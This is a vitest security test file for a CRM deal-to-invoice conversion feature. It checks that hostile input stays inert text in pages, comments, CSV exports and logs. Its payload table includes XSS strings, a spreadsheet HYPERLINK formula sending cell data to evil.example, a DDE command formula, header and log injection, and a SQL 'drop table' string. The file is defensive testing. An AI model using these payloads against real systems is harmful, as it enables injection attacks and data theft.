import { describe, expect, test } from 'vitest'
import { usualSettings } from '../../server/conversion/settings.ts'
import {
  administrator,
  commentsOn,
  logLines,
  newest,
  openCard,
  openPortal,
  openRaw,
  salesperson,
  useApp,
} from './door.ts'
import { decide, openMainPage } from './main-page.ts'

useApp()

/** What people, forms and imports put into titles: each is code somewhere, and here nothing but text. */
const hostile: Record<string, string> = {
  'the end of a script': '</script><script>alert("hostile")</script><!--',
  'an element with a script in it': `"'><img src=x onerror=alert('hostile')>`,
  'BB code': '[URL=https://evil.example]hostile[/URL][IMG]https://evil.example/a.png[/IMG][B]',
  'half a BB code': 'hostile]https://evil.example[/URL',
  'a reference into a batch': 'hostile $result[guard][item][id] $result[deal] $result[unbindPlacement0][count]',
  'a formula with a link': '=HYPERLINK("https://evil.example?"&A1;"hostile")',
  'a formula by sign': '+cmd|hostile!A1',
  'a formula by tabulator': '\t=1+1 hostile',
  'a row and a column': 'hostile";"x"\r\n"=1+1";',
  'a header': 'hostile\r\nSet-Cookie: hostile=1\r\n\r\n<html>',
  'a line of the log': 'hostile"}\n{"level":60,"msg":"forged"}',
  'a query': "hostile'; drop table conversions; -- %s $1",
  'a sentence with holes': 'hostile {count, plural, one {x}} {title} {{7*7}} ${7*7}',
  'a name of the language': '__proto__ hostile constructor',
  'text that runs backwards': 'hostile \u202egnp.exe\u202c',
  'no character': 'hostile \0 end',
  'a query string': 'hostile?auth=1&cmd[x]=crm.deal.delete#%00%0a',
  'very much': 'hostile '.repeat(31).trim(),
}

/** The cells of a table as a table calculation reads them. */
function cellsOf(table: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let rest = table.replace(/^\ufeff/, '')
  while (rest.length > 0) {
    const [whole, content, end] = /^"((?:[^"]|"")*)"(;|,|\r\n)/.exec(rest) ?? []
    if (whole === undefined) throw new Error(`No cell begins here: ${rest.slice(0, 40)}`)
    rows.at(-1)!.push(content!.replaceAll('""', '"'))
    if (end !== separator && end !== '\r\n') throw new Error(`No separator: ${end}`)
    if (end === '\r\n') rows.push([])
    rest = rest.slice(whole.length)
  }
  return rows.slice(0, -1)
}

describe.each(Object.entries(hostile))('%s in a title, a field, a product and a name', (_, text) => {
  test('is text at every door: page, preview, record, comment, history, table, undo and log', async () => {
    const portal = await openPortal()
    const field = [...portal.state.userFields.values()].find(({ fieldName }) => fieldName === 'UF_CRM_INTERNAL_NOTE')!
    portal.state.users.get(salesperson)!.lastName = text
    const deal = portal.add('deal', { title: text, assignedById: salesperson, [field.fieldName]: text })
    portal.setProductRows('deal', deal.id, [
      {
        productName: text,
        price: 119,
        quantity: 2,
        taxRate: 19,
        taxIncluded: 'Y',
        measureCode: 796,
        measureName: 'pcs',
      },
    ])
    const stored = (portal.state.items.deal.get(deal.id)!.values as Record<string, string>).title!

    // The page: nothing of it is markup, and what rides along is read back as it was.
    const html = await openRaw(portal, salesperson, 'deal', deal.id)
    const first = html.slice(
      html.indexOf('<div id="sight"'),
      html.indexOf('<script type="application/json" id="preview"'),
    )
    // Its own styles stand at its beginning and nowhere else.
    const drawn = first.replace(/^(<div [^>]*>)<style>[^<]*<\/style>/, '$1')
    expect(drawn.match(/<(?!\/?(?:[ibu]|div|span|small|header|section|h[1-3]|p)\b)[^>]*>?/g)).toBeNull()
    expect(html.slice(html.indexOf('<script type="application/json"')).match(/<[^>]*>?/g)).toEqual([
      '<script type="application/json" id="start">',
      '</script>',
      ...first.match(/<[^>]*>?/g)!,
      '<script type="application/json" id="preview">',
      '</script>',
      '</body>',
      '</html>',
    ])
    expect(html).toContain('hostile')
    const page = await openCard(portal, salesperson, 'deal', deal.id)
    expect(page.preview.source.title).toBe(stored)
    expect(JSON.stringify(page.target('invoice'))).toContain('hostile')

    // The record: what stood in the source, to the letter.
    portal.requests.length = 0
    const conversion = await page.convert(['invoice'])
    expect(conversion.outcome).toBe('done')
    const invoice = newest(portal, 'invoice')
    expect(invoice.values.title).toBe(stored)
    expect(invoice.rows.map(({ productName }) => productName)).toEqual(
      portal.state.items.deal.get(deal.id)!.rows.map(({ productName }) => productName),
    )
    expect(invoice.values.parentId2).toBe(deal.id)

    // The comment: one line with one link, which leads inside the portal.
    const [comment] = commentsOn(portal, 'deal', deal.id)
    expect(comment!.split(/[\r\n]/)).toHaveLength(2)
    expect(comment!.match(/\[\/?[A-Za-z]+/g)).toEqual(['[B', '[/B', '[URL', '[/URL'])
    expect(comment).toContain(`[URL=/crm/type/31/details/${invoice.id}/]`)

    // The history and its table: every cell is text, and no text is two cells.
    const main = await openMainPage(portal, administrator)
    const { entries } = await main.history()
    expect(entries).toHaveLength(1)
    expect(entries[0]!.source.title).toContain('hostile')
    const cells = cellsOf(await main.table(), ';')
    expect(cells.map((row) => row.length)).toEqual([8, 8])
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\t]/)
    const file = await main.get('/api/history.csv')
    expect(file.headers.get('content-disposition')).toBe('attachment; filename=create-from.csv')
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(file.headers.get('set-cookie')).toBeNull()

    // The undo: its comment too is lines of ours.
    expect((await page.undo(conversion.requestId)).outcome).toBe('undone')
    const undone = commentsOn(portal, 'deal', deal.id).at(-1)!
    expect(undone.split(/[\r\n]/)).toHaveLength(2)
    expect(undone.match(/\[\/?[A-Za-z]+/g)).toEqual(['[B', '[/B'])

    // The menus: an item that names a smart process spells its name as the portal does.
    const sites = portal.state.smartTypes.find(({ entityTypeId }) => entityTypeId === 1030)!
    portal.state.smartTypes = [{ ...sites, title: { de: stored, en: stored } }]
    expect(await decide(portal, { ...usualSettings, menu: 'perTarget' })).toMatchObject({ menus: 'bound', refused: [] })
    const items = [...portal.state.apps.values()][0]!.placements
    const item = items.find(({ placement, handler }) => /DEAL.*smart1030$/.test(placement + handler))
    expect(item?.langAll.de?.TITLE).toBe(`${stored} aus diesem Auftrag…`)
    expect(items.filter(({ placement }) => placement === 'CRM_DEAL_DETAIL_TOOLBAR')).toHaveLength(3)

    // The log: one record per line, and nothing of it.
    expect(logLines.length).toBeGreaterThan(5)
    expect(logLines.join('\n')).not.toMatch(/hostile|forged/)
  })
})

test('what is asked for in the wrong way is not repeated anywhere', async () => {
  const portal = await openPortal()
  const main = await openMainPage(portal, salesperson)
  for (const text of Object.values(hostile)) {
    const refused = await main.get(`/api/history?after=${encodeURIComponent(text)}&outcome=${encodeURIComponent(text)}`)
    expect(refused.status).toBe(400)
    expect(await refused.text()).not.toMatch(/hostile/)
    const missing = await main.get(`/api/conversions/${encodeURIComponent(text)}`)
    expect(missing.status).toBe(400)
    expect(await missing.text()).not.toMatch(/hostile/)
  }
})
